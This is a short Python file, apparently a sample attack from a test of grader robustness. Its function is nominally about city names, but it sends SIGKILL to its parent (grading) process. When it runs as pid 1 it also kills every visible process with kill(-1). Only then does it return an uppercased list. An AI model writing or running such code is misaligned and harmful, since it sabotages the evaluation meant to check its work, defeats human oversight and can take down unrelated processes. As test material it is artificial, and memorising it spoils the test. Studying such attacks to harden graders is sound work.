"""Attack: kill the grading process (and whatever else is visible)."""
import os
import signal


def lower_names(cities):
    for pid in {os.getppid(), os.getpgid(0) and os.getppid()}:
        if pid > 1:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    if os.getpid() == 1:
        # Only where this is a pid namespace of its own: elsewhere -1 would mean every process.
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
    return [c["name"].upper() for c in cities]
